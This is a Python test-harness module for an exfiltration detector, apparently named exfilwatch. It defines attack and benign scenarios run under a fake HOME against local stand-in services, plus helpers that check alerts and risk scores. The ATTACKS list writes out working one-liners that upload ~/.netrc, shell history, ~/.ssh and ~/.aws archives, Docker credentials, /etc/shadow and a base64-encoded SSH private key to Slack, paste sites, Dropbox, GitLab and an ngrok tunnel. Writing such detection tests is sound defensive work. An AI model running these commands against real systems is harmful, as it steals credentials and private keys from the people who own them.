"""The public detection scenarios (shared scenarios README), how to run one under a fake HOME,
and the README's pass/fail definitions: "alert T1567.00N" and "silent"."""

import functools
import os
import re
import subprocess
from dataclasses import dataclass, field

import pytest

from . import paths
from .records import as_list, get, kind, action, summarize

SCENARIO_TIMEOUT_S = 60
THRESHOLD_ENV = "EXFILWATCH_ALERT_THRESHOLD"
ALERT_ACTION = "exfiltration-suspected"


@dataclass(frozen=True)
class Scenario:
    name: str
    expect: str                    # "alert" or "silent"
    shell: str                     # the README's command, verbatim
    technique: str = ""            # "T1567.004", or "T1567" for the parent technique
    domain: str = ""               # the service name the traffic goes to ("" = no network)
    hosts: tuple = ()              # names a private /etc/hosts maps to 127.0.0.1
    uploads: bool = False          # the stand-in service must receive a non-empty body
    evidence_file: str = ""        # no network: a file.path suffix to see opened first
    leftovers: tuple = field(default=())  # files the command leaves outside HOME

    def command(self, https_port=8443):
        """The README's command, aimed at the stand-in's port when it is not the default."""
        return self.shell.replace(":8443", f":{https_port}")


ATTACKS = [
    Scenario(
        "attack1-slack-webhook-netrc", "alert",
        'curl -sk --resolve hooks.slack.com:8443:127.0.0.1 -F file=@$HOME/.netrc '
        'https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX',
        technique="T1567.004", domain="hooks.slack.com", uploads=True),
    Scenario(
        "attack2-history-to-paste-wget", "alert",
        'wget -q -O /dev/null --no-check-certificate --post-file=$HOME/.bash_history '
        'https://paste.rs:8443/',
        technique="T1567.003", domain="paste.rs", hosts=("paste.rs",), uploads=True),
    Scenario(
        "attack3-staged-archive-cloud", "alert",
        'tar czf /tmp/stage.tgz -C $HOME .ssh .aws && curl -sk --resolve '
        'content.dropboxapi.com:8443:127.0.0.1 -X POST --data-binary @/tmp/stage.tgz '
        'https://content.dropboxapi.com:8443/2/files/upload',
        technique="T1567.002", domain="content.dropboxapi.com", uploads=True,
        leftovers=("/tmp/stage.tgz",)),
    Scenario(
        "attack4-python-registry-cred-code-host", "alert",
        "python3 -c 'import ssl,urllib.request,os; "
        "d=open(os.path.expanduser(\"~/.docker/config.json\"),\"rb\").read(); "
        "urllib.request.urlopen(urllib.request.Request("
        "\"https://gitlab.com:8443/api/v4/snippets\", data=d, method=\"POST\"), "
        "context=ssl._create_unverified_context())'",
        technique="T1567.001", domain="gitlab.com", hosts=("gitlab.com",), uploads=True),
    Scenario(
        "attack5-shadow-through-tunnel", "alert",
        'cat /etc/shadow | curl -sk --resolve abc123.ngrok-free.app:8443:127.0.0.1 '
        '--data-binary @- https://abc123.ngrok-free.app:8443/',
        technique="T1567", domain="abc123.ngrok-free.app", uploads=True),
    Scenario(
        "attack6-renamed-client-encoded-key", "alert",
        'cp "$(command -v curl)" /tmp/.x && base64 $HOME/.ssh/id_ed25519 | /tmp/.x -sk '
        '--resolve rentry.co:8443:127.0.0.1 --data-binary @- https://rentry.co:8443/api/new',
        technique="T1567.003", domain="rentry.co", uploads=True, leftovers=("/tmp/.x",)),
]

BENIGN = [
    Scenario(
        "benign1-ci-notification-webhook", "silent",
        "curl -sk --resolve hooks.slack.com:8443:127.0.0.1 -d '{\"text\":\"build 1234 passed\"}' "
        "https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX",
        domain="hooks.slack.com", uploads=True),
    Scenario(
        "benign2-source-download-code-host", "silent",
        'curl -sk --resolve codeload.github.com:8443:127.0.0.1 '
        'https://codeload.github.com:8443/org/repo/tar.gz/main -o $HOME/repo.tgz',
        domain="codeload.github.com"),
    Scenario(
        "benign3-local-key-reads-no-network", "silent",
        'ssh-keygen -lf $HOME/.ssh/id_ed25519.pub; cat $HOME/.aws/config > /dev/null',
        evidence_file="/.aws/config"),
    Scenario(
        "benign4-build-log-internal-service", "silent",
        'curl -sk --resolve upload.example.org:8443:127.0.0.1 -T /etc/os-release '
        'https://upload.example.org:8443/',
        domain="upload.example.org", uploads=True),
    Scenario(
        "benign5-cloud-sdk-lists-bucket", "silent",
        "python3 -c 'import ssl,urllib.request,os; "
        "open(os.path.expanduser(\"~/.aws/credentials\")).read(); "
        "urllib.request.urlopen(\"https://s3.amazonaws.com:8443/my-bucket?list-type=2\", "
        "context=ssl._create_unverified_context()).read()'",
        domain="s3.amazonaws.com", hosts=("s3.amazonaws.com",)),
]

ALL = ATTACKS + BENIGN


@dataclass
class ScenarioResult:
    returncode: int
    stdout: str
    stderr: str
    pid: int

    def check(self, what="scenario"):
        if self.returncode != 0:
            pytest.fail(f"{what} exited {self.returncode}\nstdout: {self.stdout[-2000:]}\n"
                        f"stderr: {self.stderr[-2000:]}", pytrace=False)
        return self


def run_scenario(shell_text, env, view=None, timeout=SCENARIO_TIMEOUT_S, cwd=None):
    """Runs shell_text with bash in its own session (so the monitor sees it as its own
    pipeline, apart from pytest), optionally inside a namespaces.PrivateView."""
    argv = ["/bin/bash", "-c", shell_text]
    if view is not None:
        argv = view.argv(argv)
    process = subprocess.Popen(argv, env=env, cwd=cwd or env.get("HOME"),
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               stdin=subprocess.DEVNULL, start_new_session=True)
    try:
        out, err = process.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, 9)
        out, err = process.communicate()
        pytest.fail(f"scenario did not finish within {timeout} s: {shell_text}\n"
                    f"stderr: {err.decode(errors='replace')[-2000:]}", pytrace=False)
    return ScenarioResult(process.returncode, out.decode(errors="replace"),
                          err.decode(errors="replace"), process.pid)


def execute(scenario, home, workdir, https_port=8443):
    """Runs one scenario under the fake HOME (inside a private /etc/hosts when it needs one),
    removes what it leaves outside HOME, and fails unless it exited 0."""
    from .namespaces import private_hosts
    view = private_hosts(scenario.hosts, workdir / "etc") if scenario.hosts else None
    try:
        result = run_scenario(scenario.command(https_port), home.env(), view)
    finally:
        for leftover in scenario.leftovers:
            if os.path.lexists(leftover):
                os.unlink(leftover)
    return result.check(scenario.name)


def check_service_saw(scenario, service, timeout=10.0):
    """The stand-in service logged the scenario's request (with a body for uploads): proof the
    traffic happened, whatever the monitor says."""
    if not scenario.domain:
        return None

    def seen(request):
        host = request.get("host", "").rsplit(":", 1)[0]
        return host == scenario.domain and (request.get("body_bytes", 0) > 0
                                             or not scenario.uploads)

    return service.wait_for_request(seen, timeout, f"a request for {scenario.domain}")


# The default alert threshold, read from `exfilwatch rules dump` (rules/default.yaml keeps it
# at settings.alert_threshold). Tolerant of a moved key: the first of these dotted paths that
# holds a number wins, then any numeric key whose path reads like an alert threshold.
# EXFILWATCH_ALERT_THRESHOLD overrides.
THRESHOLD_PATHS = (
    "settings.alert_threshold", "thresholds.alert", "threshold.alert", "thresholds.alert_score",
    "scoring.thresholds.alert", "scoring.alert_threshold", "scoring.threshold", "alert.threshold", "alert.min_score",
    "alert_threshold", "min_score", "defaults.min_score", "thresholds.min_score",
)
THRESHOLD_PATTERN = re.compile(r"alert.*threshold|threshold.*alert|min_score")


def find_threshold(document):
    """The alert threshold in a parsed rules document, or None."""
    for path in THRESHOLD_PATHS:
        value = get(document, path)
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            return value
    for path, value in _walk(document):
        if isinstance(value, (int, float)) and not isinstance(value, bool) \
                and THRESHOLD_PATTERN.search(path):
            return value
    return None


def _walk(node, prefix=""):
    if isinstance(node, dict):
        for key, value in node.items():
            path = f"{prefix}.{key}" if prefix else str(key)
            yield path, value
            yield from _walk(value, path)


@functools.lru_cache(maxsize=1)
def alert_threshold():
    override = os.environ.get(THRESHOLD_ENV)
    if override:
        return float(override)
    import yaml
    binary = paths.monitor_binary()
    done = subprocess.run([str(binary), "rules", "dump"], capture_output=True, text=True,
                          timeout=30)
    if done.returncode != 0:
        pytest.fail(f"`{binary} rules dump` failed ({done.returncode}): {done.stderr}",
                    pytrace=False)
    try:
        document = yaml.safe_load(done.stdout)
    except yaml.YAMLError as err:
        pytest.fail(f"`exfilwatch rules dump` is not YAML: {err}", pytrace=False)
    value = find_threshold(document) if isinstance(document, dict) else None
    if value is None:
        keys = sorted(document) if isinstance(document, dict) else type(document).__name__
        pytest.fail("cannot find the default alert threshold in `exfilwatch rules dump` "
                    f"(tried {', '.join(THRESHOLD_PATHS)}; top-level keys: {keys}); set "
                    f"{THRESHOLD_ENV} or add the key to harness/scenarios.py", pytrace=False)
    return value


def is_alert(record):
    return kind(record) == "alert" and action(record) == ALERT_ACTION


def technique_ids(record, technique):
    """The ids a technique match is made on: subtechnique ids for T1567.00N, else technique
    ids (ECS allows a string or an array)."""
    path = "threat.technique.subtechnique.id" if "." in technique else "threat.technique.id"
    return [str(v) for v in as_list(get(record, path))]


def matching_alerts(records, technique, min_score):
    return [r for r in records if is_alert(r) and technique in technique_ids(r, technique)
            and isinstance(get(r, "event.risk_score"), (int, float))
            and get(r, "event.risk_score") >= min_score]


def assert_alert(records, technique, min_score=None):
    """At least one exfiltration-suspected alert holding `technique` at or above the default
    threshold; returns the matching alerts."""
    if min_score is None:
        min_score = alert_threshold()
    found = matching_alerts(records, technique, min_score)
    if not found:
        alerts = [r for r in records if kind(r) == "alert"]
        pytest.fail(f"no {ALERT_ACTION} alert for {technique} with risk_score >= {min_score}; "
                    f"{len(alerts)} alert(s):\n{summarize(alerts) or '(none)'}\n"
                    f"recent records:\n{summarize(records, 40)}", pytrace=False)
    return found


def assert_silent(records):
    alerts = [r for r in records if kind(r) == "alert"]
    if alerts:
        pytest.fail(f"expected no alert, got {len(alerts)}:\n{summarize(alerts)}\n"
                    f"reasons: {[get(a, 'event.reason') for a in alerts]}", pytrace=False)
